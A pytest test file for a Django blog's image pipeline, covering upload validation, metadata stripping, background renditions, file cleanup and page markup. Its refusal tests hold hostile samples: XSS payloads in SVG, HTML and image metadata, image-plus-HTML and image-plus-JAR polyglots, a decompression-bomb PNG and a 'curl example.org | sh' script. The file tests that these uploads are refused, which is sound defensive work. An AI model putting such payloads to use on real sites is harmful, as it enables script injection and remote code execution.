"""The image pipeline: what is accepted or refused, what is stored, renditions, cleanup, markup."""

import io
import re
import struct
import zipfile
import zlib
from html.parser import HTMLParser
from pathlib import Path

import feedparser
import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django_tasks import TaskResultStatus
from django_tasks_db.models import DBTaskResult
from PIL import ExifTags, ImageCms
from PIL import Image as PillowImage
from PIL.PngImagePlugin import PngInfo

from blog import images
from blog.admin import ImageAdminForm
from blog.models import ContentVersion, Image, Rendition
from blog.tasks import make_renditions

from .factories import ArticleFactory, ImageFactory, SectionFactory

pytestmark = pytest.mark.django_db


# Images made in memory


def encode(pillow_format="JPEG", size=(640, 360), color="grey", mode="RGB", **options):
    buffer = io.BytesIO()
    PillowImage.new(mode, size, color).save(buffer, pillow_format, **options)
    return buffer.getvalue()


def noisy_png(size=(200, 100)):
    buffer = io.BytesIO()
    PillowImage.effect_noise(size, 60).convert("RGB").save(buffer, "PNG")
    return buffer.getvalue()


def animated(pillow_format="GIF", colours=("red", "green", "blue"), size=(60, 40)):
    frames = [PillowImage.new("RGB", size, colour) for colour in colours]
    buffer = io.BytesIO()
    frames[0].save(
        buffer, pillow_format, save_all=True, append_images=frames[1:], duration=100, loop=0
    )
    return buffer.getvalue()


def png_claiming(width, height):
    """A 1×1 PNG whose header claims another size, CRC fixed: a decompression bomb's header."""
    data = bytearray(encode("PNG", size=(1, 1)))
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def png_with_broken_pixels():
    data = bytearray(noisy_png())
    idat = data.index(b"IDAT")
    data[idat + 40] ^= 0xFF  # inside the compressed pixels: the chunk's CRC no longer matches
    return bytes(data)


def png_with_text(*texts, compressed=False):
    info = PngInfo()
    for number, text in enumerate(texts):
        info.add_text(f"Comment{number}", text, zip=compressed)
    return encode("PNG", pnginfo=info)


def jpeg_with_segments(*payloads):
    """A JPEG with extra APP15 segments, which decoders skip, right after its start marker."""
    data = encode("JPEG")
    segments = b"".join(
        b"\xff\xef" + struct.pack(">H", len(payload) + 2) + payload for payload in payloads
    )
    return data[:2] + segments + data[2:]


def zip_archive():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("Main.class", b"\xca\xfe\xba\xbe")  # an image that is also a JAR
    return buffer.getvalue()


def mpo_with_gain_map():
    """A JPEG followed by a second JPEG its MPF index lists, as phones store HDR gain maps."""
    buffer = io.BytesIO()
    primary = PillowImage.new("RGB", (120, 80), "orange")
    primary.save(buffer, "MPO", save_all=True, append_images=[PillowImage.new("RGB", (60, 40))])
    return buffer.getvalue()


SECRETS = (b"SpyCam", b"secret-xmp", b"secret-comment")


def exif_with_gps(orientation=1):
    exif = PillowImage.Exif()
    exif[ExifTags.Base.Make] = "SpyCam"
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (37.0, 58.0, 3.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (126.0, 40.0, 22.0),
    }
    return exif


def with_metadata(pillow_format):
    """A photo carrying GPS, camera, XMP, a comment and an ICC profile, as far as the format can."""
    exif = exif_with_gps()
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">secret-xmp</x:xmpmeta>'
    options = {"exif": exif, "icc_profile": icc}
    if pillow_format == "JPEG":
        options.update(xmp=xmp, comment=b"secret-comment")
    elif pillow_format == "PNG":
        info = PngInfo()
        info.add_text("Comment", "secret-comment")
        info.add_itxt("XML:com.adobe.xmp", xmp.decode())
        options["pnginfo"] = info
    else:
        options["xmp"] = xmp
    data = encode(pillow_format, size=(1000, 600), color="teal", **options)
    opened = PillowImage.open(io.BytesIO(data))
    assert opened.getexif().get_ifd(ExifTags.IFD.GPSInfo), "the upload must carry GPS"
    return data


def stored_files(media_root):
    root = Path(media_root)
    return sorted(path for path in root.rglob("*") if path.is_file()) if root.exists() else []


def open_stored(field_file):
    with field_file.open("rb") as stored:
        data = stored.read()
    return PillowImage.open(io.BytesIO(data))


def is_red(pixel):
    red, green, blue = pixel[:3]
    return red > 200 and green < 60 and blue < 60


def form_for(data, name="photo.jpg"):
    return ImageAdminForm(
        data={"alt_text": "A picture", "caption": "", "credit": ""},
        files={"file": SimpleUploadedFile(name, data)},
    )


def store_image(data, name="photo.jpg", **fields):
    """Save an image as an upload does: the original stored, its renditions owed to a task."""
    fields.setdefault("alt_text", "A picture")
    return Image.objects.create(file=ContentFile(data, name=name), **fields)


@pytest.fixture
def save_image(django_capture_on_commit_callbacks, run_tasks):
    """Save an image as an upload does, then run the task its commit enqueued, as the worker
    would: `save_image(data, name, **fields)` returns it with its renditions."""

    def save(data, name="photo.jpg", **fields):
        with django_capture_on_commit_callbacks(execute=True):
            image = store_image(data, name, **fields)
        run_tasks()
        return image

    return save


# Accepted


@pytest.mark.parametrize(
    ("pillow_format", "image_format"),
    [("JPEG", "jpeg"), ("PNG", "png"), ("WEBP", "webp"), ("GIF", "gif")],
)
def test_each_accepted_format_is_stored_as_what_it_is_whatever_its_name(
    pillow_format, image_format
):
    form = form_for(encode(pillow_format), name="holiday.bmp")

    assert form.is_valid(), form.errors
    image = form.save()

    assert image.format == image_format
    assert image.file.name.endswith(f"/holiday.{images.extension(image_format)}")
    assert open_stored(image.file).format == pillow_format
    assert (image.width, image.height) == (640, 360)


def test_padding_after_the_image_is_tolerated():
    form = form_for(encode("JPEG") + b"\x00\x00\r\n")

    assert form.is_valid(), form.errors


def test_a_jpeg_with_a_gain_map_is_accepted_and_stored_as_its_first_image():
    image = store_image(mpo_with_gain_map())

    stored = open_stored(image.file)
    assert (image.format, stored.format, getattr(stored, "n_frames", 1)) == ("jpeg", "JPEG", 1)
    assert (image.width, image.height) == (120, 80)


@pytest.mark.parametrize("pillow_format", ["GIF", "PNG", "WEBP"])
def test_an_animation_keeps_its_frames_and_its_renditions_show_the_first(pillow_format, save_image):
    image = save_image(animated(pillow_format), name="loop")

    original = open_stored(image.file)
    assert (original.format, original.n_frames, image.frames) == (pillow_format, 3, 3)
    assert original.info["loop"] == 0
    # An animated original is never a rung of the srcset: every width has its still.
    assert {r.width for r in image.renditions.filter(kind="width")} == {60}
    assert image.renditions.filter(kind="width").count() == (1 if pillow_format == "WEBP" else 2)
    for rendition in image.renditions.all():
        still = open_stored(rendition.file)
        assert rendition.format in ("png", "webp", "jpeg")
        assert getattr(still, "n_frames", 1) == 1
        assert is_red(still.convert("RGB").getpixel((still.width // 2, still.height // 2)))


def test_transparency_is_kept_and_the_social_card_is_a_png(save_image):
    image = save_image(encode("PNG", mode="RGBA", color=(0, 0, 0, 0)), name="logo.png")

    for rendition in image.renditions.all():
        assert open_stored(rendition.file).convert("RGBA").getpixel((0, 0))[3] == 0
    assert image.social_card.format == "png"


def test_a_cmyk_jpeg_is_stored_in_rgb():
    image = store_image(encode("JPEG", mode="CMYK", color=(0, 255, 255, 0)))

    stored = open_stored(image.file)
    assert stored.mode == "RGB"
    assert is_red(stored.getpixel((10, 10)))


# Refused


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'

REFUSALS = {
    "svg renamed .jpg": (SVG, "markup"),
    "html renamed .jpg": (HTML, "markup"),
    "shell script renamed .jpg": (b"#!/bin/sh\ncurl example.org | sh\n", "unsupported"),
    "bmp": (encode("BMP"), "unsupported"),
    "tiff": (encode("TIFF"), "unsupported"),
    "html behind a gif header": (b"GIF89a/*" + HTML, "markup"),
    "html behind a jpeg header": (b"\xff\xd8\xff\xe0" + HTML, "markup"),
    "script in a jpeg comment": (encode("JPEG", comment=b"<script>alert(1)</script>"), "markup"),
    "script in a jpeg segment past the first 4 KB": (
        jpeg_with_segments(b"x" * 5000, b"<script>alert(1)</script>"),
        "markup",
    ),
    "svg in a png text chunk past the first 4 KB": (
        png_with_text("x" * 5000, "<svg onload=alert(1)>"),
        "markup",
    ),
    "script in a compressed png text chunk": (
        png_with_text("<script>alert(1)</script>", compressed=True),
        "markup",
    ),
    "html after a jpeg": (encode("JPEG") + HTML, "trailing_data"),
    "zip after a png": (encode("PNG") + zip_archive(), "trailing_data"),
    "data after a gif": (encode("GIF") + b"alert(1)//", "trailing_data"),
    "data after a webp": (encode("WEBP") + b"alert(1)//", "trailing_data"),
    "truncated jpeg": (encode("JPEG")[:-200], "truncated"),
    "truncated png": (noisy_png()[:-300], "truncated"),
    "truncated webp": (encode("WEBP")[:-20], "truncated"),
    "corrupt png": (png_with_broken_pixels(), "corrupt"),
    "decompression bomb": (png_claiming(30_000, 30_000), "too_many_pixels"),
}


@pytest.mark.parametrize(("data", "code"), REFUSALS.values(), ids=REFUSALS.keys())
def test_refused_upload_is_a_form_error_and_stores_nothing(data, code, media_root):
    form = form_for(data)

    assert not form.is_valid()
    assert [error.code for error in form.errors.as_data()["file"]] == [code]
    assert str(form.errors["file"][0]).endswith(".")
    assert stored_files(media_root) == []


@pytest.mark.parametrize(
    ("data", "code"),
    [REFUSALS["html renamed .jpg"], REFUSALS["html after a jpeg"], REFUSALS["corrupt png"]],
)
def test_saving_a_refused_file_without_a_form_raises_and_stores_nothing(data, code, media_root):
    with pytest.raises(ValidationError) as refused:
        store_image(data)

    assert refused.value.code == code
    assert not Image.objects.exists()
    assert stored_files(media_root) == []


def test_file_over_the_size_limit_is_refused(settings, media_root):
    data = noisy_png()
    settings.IMAGE_MAX_UPLOAD_BYTES = len(data) - 1

    form = form_for(data, name="photo.png")

    assert form.errors.as_data()["file"][0].code == "too_large"
    assert stored_files(media_root) == []


def test_file_at_the_size_limit_is_accepted(settings):
    data = noisy_png()
    settings.IMAGE_MAX_UPLOAD_BYTES = len(data)

    assert form_for(data, name="photo.png").is_valid()


def test_image_over_the_pixel_limit_is_refused(settings):
    settings.IMAGE_MAX_PIXELS = 640 * 360 - 1

    form = form_for(encode("PNG"))

    assert form.errors.as_data()["file"][0].code == "too_many_pixels"
    assert "640 × 360 pixels" in form.errors["file"][0]


def test_every_frame_counts_towards_the_pixel_limit(settings):
    settings.IMAGE_MAX_PIXELS = 2 * 60 * 40  # two frames' worth; the GIF has three

    form = form_for(animated(), name="loop.gif")

    assert form.errors.as_data()["file"][0].code == "too_many_pixels"


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_pillows_decompression_bomb_warning_is_a_refusal_too(monkeypatch):
    # Pillow warns above MAX_IMAGE_PIXELS and raises only above twice that.
    monkeypatch.setattr(PillowImage, "MAX_IMAGE_PIXELS", 1000)

    form = form_for(encode("PNG", size=(40, 30)))

    assert form.errors.as_data()["file"][0].code == "too_many_pixels"


# Privacy


@pytest.mark.parametrize("pillow_format", ["JPEG", "PNG", "WEBP"])
def test_gps_and_other_metadata_are_gone_from_every_stored_file(
    pillow_format, media_root, save_image
):
    image = save_image(with_metadata(pillow_format))

    files = stored_files(media_root)
    assert len(files) == 1 + image.renditions.count()
    for path in files:
        data = path.read_bytes()
        stored = PillowImage.open(io.BytesIO(data))
        assert not stored.getexif().get_ifd(ExifTags.IFD.GPSInfo), path
        assert not stored.getexif(), path
        assert not {"exif", "xmp", "comment", "icc_profile"} & set(stored.info), path
        assert not [secret for secret in SECRETS if secret in data], path


def test_exif_orientation_is_applied_before_it_is_dropped(save_image):
    picture = PillowImage.new("RGB", (300, 200), "red")
    picture.paste((0, 0, 255), (150, 0, 300, 200))  # left half red, right half blue
    buffer = io.BytesIO()
    picture.save(buffer, "JPEG", exif=exif_with_gps(orientation=6))  # "rotate 90° clockwise"

    image = save_image(buffer.getvalue())

    stored = open_stored(image.file)
    assert stored.size == (image.width, image.height) == (200, 300)
    assert stored.getpixel((100, 40))[0] > 200  # the red half is now on top
    assert stored.getpixel((100, 260))[2] > 200
    assert all(r.height > r.width for r in image.renditions.filter(kind="width"))


# Renditions


def rendition_set(image, kind="width"):
    return {(r.format, r.width, r.height) for r in image.renditions.filter(kind=kind)}


def test_a_wide_photo_gets_every_width_in_jpeg_and_webp_and_a_social_card(save_image):
    image = save_image(encode("JPEG", size=(2000, 1000)))

    widths = [(480, 240), (800, 400), (1200, 600), (1600, 800)]
    assert rendition_set(image) == {
        (image_format, width, height)
        for image_format in ("jpeg", "webp")
        for width, height in widths
    }
    assert rendition_set(image, "social") == {("jpeg", 1200, 630)}
    for rendition in image.renditions.all():
        stored = open_stored(rendition.file)
        assert stored.size == (rendition.width, rendition.height)
        assert stored.format == images.FORMATS[rendition.format][0]


def test_rendition_widths_are_a_setting(settings, save_image):
    settings.IMAGE_RENDITION_WIDTHS = (300, 600)

    image = save_image(encode("JPEG", size=(2000, 1000)))

    assert {r.width for r in image.renditions.filter(kind="width")} == {300, 600}


def test_a_small_image_is_never_upscaled(save_image):
    image = save_image(encode("PNG", size=(640, 360)), name="small.png")

    # The stored original is itself the 640w PNG: no copy of it is made.
    assert rendition_set(image) == {("png", 480, 270), ("webp", 480, 270), ("webp", 640, 360)}
    assert rendition_set(image, "social") == {("jpeg", 640, 336)}


def test_a_gifs_renditions_are_png_and_webp(save_image):
    image = save_image(encode("GIF", size=(900, 300)), name="chart.gif")

    assert rendition_set(image) == {
        (image_format, width, height)
        for image_format in ("png", "webp")
        for width, height in [(480, 160), (800, 267), (900, 300)]
    }


def test_files_go_through_the_storage_api(settings, media_root, save_image):
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {"BACKEND": "django.core.files.storage.InMemoryStorage"},
    }

    image = save_image(encode("JPEG", size=(1000, 500)))

    assert stored_files(media_root) == []
    names = [image.file.name, *(r.file.name for r in image.renditions.all())]
    assert len(names) == 7  # 1000 pixels wide: the original stands in for the 1000w JPEG
    assert all(default_storage.exists(name) for name in names)


# Renditions made by a task


def rendition_tasks():
    return DBTaskResult.objects.filter(task_path=make_renditions.module_path)


def test_storing_an_image_enqueues_one_rendition_task_with_its_save():
    image = store_image(encode("JPEG", size=(2000, 1000)))

    (queued,) = rendition_tasks()
    assert queued.args_kwargs == {"args": [image.pk], "kwargs": {}}
    assert not image.renditions.exists()


def test_a_rolled_back_upload_enqueues_nothing(django_capture_on_commit_callbacks):
    def store_then_fail():
        with transaction.atomic():
            store_image(encode("JPEG"))
            raise RuntimeError("the save fails later on")

    with django_capture_on_commit_callbacks(execute=True), pytest.raises(RuntimeError):
        store_then_fail()

    assert not rendition_tasks().exists()


def test_editing_the_caption_enqueues_nothing(django_capture_on_commit_callbacks):
    image = ImageFactory()

    with django_capture_on_commit_callbacks(execute=True):
        image.caption = "A better caption"
        image.save()

    assert not rendition_tasks().exists()


def test_the_task_makes_the_renditions_from_the_stored_original(
    django_capture_on_commit_callbacks, run_tasks
):
    with django_capture_on_commit_callbacks(execute=True):
        image = store_image(encode("JPEG", size=(2000, 1000)))

    (result,) = run_tasks()

    assert result.status == TaskResultStatus.SUCCESSFUL
    assert result.return_value == {"made": 9}
    assert image.renditions.count() == 9
    for rendition in image.renditions.all():
        assert open_stored(rendition.file).size == (rendition.width, rendition.height)


def test_running_the_task_twice_changes_nothing(
    save_image, django_capture_on_commit_callbacks, media_root
):
    image = save_image(encode("JPEG", size=(2000, 1000)))
    rows = sorted(image.renditions.values_list("pk", "file"))
    files = stored_files(media_root)

    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        again = make_renditions.call(image.pk)

    assert again == {"made": 0}
    assert callbacks == []  # not even the content version moves
    assert sorted(image.renditions.values_list("pk", "file")) == rows
    assert stored_files(media_root) == files


def test_the_task_makes_only_the_renditions_missing(save_image, settings):
    image = save_image(encode("JPEG", size=(2000, 1000)))
    untouched = set(image.renditions.exclude(width__in=(800, 1600)).values_list("pk", flat=True))
    image.renditions.filter(width=800).delete()
    settings.IMAGE_RENDITION_WIDTHS = (480, 800, 1200)  # 1600 is no longer wanted

    made = make_renditions.call(image.pk)

    assert made == {"made": 2}
    assert rendition_set(image) == {
        (image_format, width, width // 2)
        for image_format in ("jpeg", "webp")
        for width in (480, 800, 1200)
    }
    assert untouched <= set(image.renditions.values_list("pk", flat=True))


def test_renditions_of_a_file_replaced_meanwhile_are_thrown_away(
    django_capture_on_commit_callbacks, run_tasks, monkeypatch, media_root
):
    with django_capture_on_commit_callbacks(execute=True):
        image = store_image(encode("JPEG", size=(1000, 500)), name="before.jpg")
    real_render, replaced = images.render, []

    def render_while_the_editor_replaces_the_file(still, spec):
        if not replaced:
            replacing = Image.objects.get(pk=image.pk)
            replacing.file = ContentFile(encode("PNG", size=(900, 300)), name="after.png")
            replacing.save()
            replaced.append(replacing)
        return real_render(still, spec)

    monkeypatch.setattr(images, "render", render_while_the_editor_replaces_the_file)

    # The second is the task the replacement enqueued while the first ran.
    with django_capture_on_commit_callbacks(execute=True):
        first, second = run_tasks()
    assert first.return_value == {"made": 0}

    image = Image.objects.get(pk=image.pk)
    assert second.return_value == {"made": image.renditions.count()}
    assert {r.format for r in image.renditions.filter(kind="width")} == {"png", "webp"}
    assert all("before" not in name for name in names_of(image))
    assert sorted(str(path.relative_to(media_root)) for path in stored_files(media_root)) == sorted(
        names_of(image)
    )


def test_a_file_rewritten_under_the_same_name_meanwhile_is_noticed(
    django_capture_on_commit_callbacks, run_tasks, monkeypatch, media_root
):
    with django_capture_on_commit_callbacks(execute=True):
        image = store_image(encode("JPEG", size=(1000, 500)))
    real_render, rewritten = images.render, []

    def render_while_the_file_is_rewritten(still, spec):
        if not rewritten:
            default_storage.delete(image.file.name)
            default_storage.save(image.file.name, ContentFile(encode("JPEG", color="red")))
            rewritten.append(True)
        return real_render(still, spec)

    monkeypatch.setattr(images, "render", render_while_the_file_is_rewritten)

    (result,) = run_tasks()

    assert result.return_value == {"made": 0}
    assert not image.renditions.exists()
    assert stored_files(media_root) == [Path(media_root) / image.file.name]


def test_a_task_that_fails_midway_keeps_the_original_and_leaves_no_rendition(
    django_capture_on_commit_callbacks, run_tasks, monkeypatch, media_root
):
    with django_capture_on_commit_callbacks(execute=True):
        image = store_image(encode("JPEG", size=(2000, 1000)))
    real_render, made = images.render, []

    def render_until_the_disk_fills(still, spec):
        if len(made) == 2:
            raise OSError("disk full")
        made.append(spec)
        return real_render(still, spec)

    monkeypatch.setattr(images, "render", render_until_the_disk_fills)

    (result,) = run_tasks()

    assert result.status == TaskResultStatus.FAILED
    assert not image.renditions.exists()
    assert stored_files(media_root) == [Path(media_root) / image.file.name]


def test_the_task_for_a_deleted_image_does_nothing(django_capture_on_commit_callbacks, run_tasks):
    with django_capture_on_commit_callbacks(execute=True):
        image = store_image(encode("JPEG"))
    Image.objects.filter(pk=image.pk).delete()

    (result,) = run_tasks()

    assert (result.status, result.return_value) == (
        TaskResultStatus.SUCCESSFUL,
        {"made": 0, "image": "deleted"},
    )


# Cleanup


def names_of(image):
    return [image.file.name, *(r.file.name for r in image.renditions.all())]


def test_deleting_an_image_removes_its_files_once_committed(django_capture_on_commit_callbacks):
    image = ImageFactory()
    names = names_of(image)

    with django_capture_on_commit_callbacks() as callbacks:
        image.delete()

    assert all(default_storage.exists(name) for name in names)
    for callback in callbacks:
        callback()
    assert not any(default_storage.exists(name) for name in names)
    assert not Rendition.objects.exists()


def test_deleting_images_in_bulk_removes_their_files(
    django_capture_on_commit_callbacks, media_root
):
    ImageFactory.create_batch(2)

    with django_capture_on_commit_callbacks(execute=True):
        Image.objects.all().delete()

    assert stored_files(media_root) == []


def test_a_rolled_back_deletion_keeps_the_files(django_capture_on_commit_callbacks):
    image = ImageFactory()
    names = names_of(image)

    def delete_then_fail():
        with transaction.atomic():
            image.delete()
            raise RuntimeError("the deletion fails later on")

    with django_capture_on_commit_callbacks(execute=True) as callbacks, pytest.raises(RuntimeError):
        delete_then_fail()

    assert callbacks == []
    assert all(default_storage.exists(name) for name in names)


def test_replacing_the_file_removes_the_old_files_once_committed(
    django_capture_on_commit_callbacks, media_root, run_tasks
):
    image = ImageFactory()
    old_names = names_of(image)

    with django_capture_on_commit_callbacks() as callbacks:
        image.file = ContentFile(encode("JPEG", size=(1000, 500)), name="replacement.jpg")
        image.save()
    assert all(default_storage.exists(name) for name in old_names)
    for callback in callbacks:
        callback()
    run_tasks()  # the new file's renditions

    image = Image.objects.get(pk=image.pk)
    new_names = names_of(image)
    assert not set(old_names) & set(new_names)
    assert (image.format, image.width) == ("jpeg", 1000)
    assert sorted(str(path.relative_to(media_root)) for path in stored_files(media_root)) == sorted(
        new_names
    )


def test_editing_the_caption_keeps_the_files(django_capture_on_commit_callbacks):
    image = ImageFactory()
    names = names_of(image)

    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        image.caption = "A better caption"
        image.save()

    # No file is touched at commit; at most the content version moves (the caption shows).
    assert [callback for callback in callbacks if callback != ContentVersion._increment] == []
    assert names_of(Image.objects.get(pk=image.pk)) == names


def test_a_save_that_fails_midway_leaves_no_file(monkeypatch, media_root):
    real_render, made = images.render, []

    def render_until_the_disk_fills(still, spec):
        if len(made) == 2:
            raise OSError("disk full")
        made.append(spec)
        return real_render(still, spec)

    monkeypatch.setattr(images, "render", render_until_the_disk_fills)

    # Renditions made in the save, as the importer and the seed make them.
    image = Image(
        file=ContentFile(encode("JPEG", size=(2000, 1000)), name="photo.jpg"), alt_text="A picture"
    )
    with pytest.raises(OSError, match="disk full"):
        image.save(renditions_now=True)

    assert stored_files(media_root) == []
    assert not Image.objects.exists()


# Markup


class Tags(HTMLParser):
    def __init__(self, content):
        super().__init__()
        self.tags = []
        self.feed(content)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def img(self, alt):
        """The <img> with this alt text, and the <source> elements of its <picture>."""
        for index, (tag, attrs) in enumerate(self.tags):
            if tag == "img" and attrs.get("alt") == alt:
                sources = []
                for previous_tag, previous in reversed(self.tags[:index]):
                    if previous_tag != "source":
                        assert previous_tag == "picture"
                        return attrs, sources
                    sources.append(previous)
        raise AssertionError(f"no img with alt {alt!r}")


def candidates(srcset):
    return {url: int(width.rstrip("w")) for url, width in (c.split() for c in srcset.split(", "))}


@pytest.fixture
def illustrated_article(save_image):
    featured = save_image(
        encode("JPEG", size=(2000, 1000)),
        alt_text="Smoke over the liaison office",
        caption="Kaesong, 16 June 2020",
        credit="KCNA",
    )
    article = ArticleFactory(featured_image=featured)
    figure = ImageFactory(alt_text="A map of Kaesong")
    SectionFactory(article=article, position=1, figure=figure)
    return article


def test_featured_image_is_a_picture_with_webp_and_loads_first(client, illustrated_article):
    image = illustrated_article.featured_image
    page = Tags(client.get(illustrated_article.get_absolute_url()).content.decode())

    img, sources = page.img("Smoke over the liaison office")

    by_format = {
        image_format: {
            r.file.url: r.width for r in image.renditions.filter(kind="width", format=image_format)
        }
        for image_format in ("jpeg", "webp")
    }
    assert [source["type"] for source in sources] == ["image/webp"]
    assert candidates(sources[0]["srcset"]) == by_format["webp"]
    assert candidates(img["srcset"]) == by_format["jpeg"]
    assert img["src"] in by_format["jpeg"]
    assert img["sizes"] == sources[0]["sizes"] == "(min-width: 42rem) 39.5rem, calc(100vw - 2.5rem)"
    assert (img["width"], img["height"]) == ("2000", "1000")
    assert (img["loading"], img["fetchpriority"]) == ("eager", "high")
    assert "decoding" not in img


def test_section_figure_is_lazy_with_its_size(client, illustrated_article):
    figure = illustrated_article.sections.get().figure
    page = Tags(client.get(illustrated_article.get_absolute_url()).content.decode())

    img, sources = page.img("A map of Kaesong")

    assert (img["loading"], img["decoding"]) == ("lazy", "async")
    assert "fetchpriority" not in img
    assert (img["width"], img["height"]) == ("640", "360")
    # The 640-pixel original is the widest PNG; WebP has its own 640w.
    assert candidates(img["srcset"]) == {
        figure.renditions.get(format="png").file.url: 480,
        figure.file.url: 640,
    }
    assert set(candidates(sources[0]["srcset"]).values()) == {480, 640}


def test_caption_and_credit_are_the_figcaption(client, illustrated_article):
    content = client.get(illustrated_article.get_absolute_url()).content.decode()

    assert (
        '<figcaption>Kaesong, 16 June 2020 <span class="credit">KCNA</span></figcaption>' in content
    )


def test_cards_have_pictures_and_only_the_first_loads_eagerly(client):
    older = ArticleFactory(featured_image=ImageFactory())
    newer = ArticleFactory(featured_image=ImageFactory())
    page = Tags(client.get("/").content.decode())

    cards = [(tag, attrs) for tag, attrs in page.tags if tag == "img" and "srcset" in attrs]
    assert [attrs["src"].startswith("/media/") for _, attrs in cards] == [True, True]
    first, second = (attrs for _, attrs in cards)
    assert first["srcset"].count(newer.featured_image.file.url) == 1
    assert second["srcset"].count(older.featured_image.file.url) == 1
    assert first["sizes"] == "(min-width: 40rem) 12rem, calc(100vw - 2.5rem)"
    assert first["loading"] == "eager"
    assert (second["loading"], second["decoding"]) == ("lazy", "async")
    assert (
        sum(1 for tag, attrs in page.tags if tag == "source" and attrs["type"] == "image/webp") == 2
    )


def test_an_image_without_renditions_still_shows(client):
    image = ImageFactory(alt_text="Stored before renditions existed")
    image.renditions.all().delete()
    Image.objects.filter(pk=image.pk).update(format="")
    article = ArticleFactory(featured_image=image)

    page = Tags(client.get(article.get_absolute_url()).content.decode())

    img, sources = page.img("Stored before renditions existed")
    assert img["src"] == image.file.url
    assert "srcset" not in img
    assert sources == []


def og_image(content):
    return re.findall(r'<meta property="og:image(?::\w+)?" content="([^"]*)"', content)


# Committed for real, as in production: the pages are cached under the content version, which
# the renditions' commit moves.
@pytest.mark.django_db(transaction=True)
def test_pages_show_the_original_until_the_renditions_are_made_then_them(client, run_tasks):
    image = store_image(encode("JPEG", size=(2000, 1000)), alt_text="Smoke over the office")
    article = ArticleFactory(featured_image=image)
    url = article.get_absolute_url()

    before = client.get(url).content.decode()
    img, sources = Tags(before).img("Smoke over the office")
    assert (img["src"], img["width"], img["height"]) == (image.file.url, "2000", "1000")
    assert "srcset" not in img
    assert sources == []
    assert og_image(before)[:3] == [f"http://testserver{image.file.url}", "2000", "1000"]
    (entry,) = feedparser.parse(client.get("/feed/").content).entries
    assert entry.enclosures[0].href == f"http://testserver{image.file.url}"

    run_tasks()

    after = client.get(url).content.decode()  # not the page cached before
    img, sources = Tags(after).img("Smoke over the office")
    jpegs = {r.file.url: r.width for r in image.renditions.filter(kind="width", format="jpeg")}
    assert candidates(img["srcset"]) == jpegs
    assert img["src"] in jpegs
    assert [source["type"] for source in sources] == ["image/webp"]
    card = image.renditions.get(kind="social")
    assert og_image(after)[:3] == [f"http://testserver{card.file.url}", "1200", "630"]


def article_page_queries(client, figures):
    article = ArticleFactory(featured_image=ImageFactory())
    for position in range(1, figures + 1):
        SectionFactory(article=article, position=position, figure=ImageFactory())
    client.get(article.get_absolute_url())  # warms the per-process caches (site, content types)
    with CaptureQueriesContext(connection) as queries:
        assert client.get(article.get_absolute_url()).status_code == 200
    return len(queries)


def test_the_article_page_runs_as_many_queries_for_two_images_as_for_six(client):
    assert article_page_queries(client, figures=1) == article_page_queries(client, figures=5)
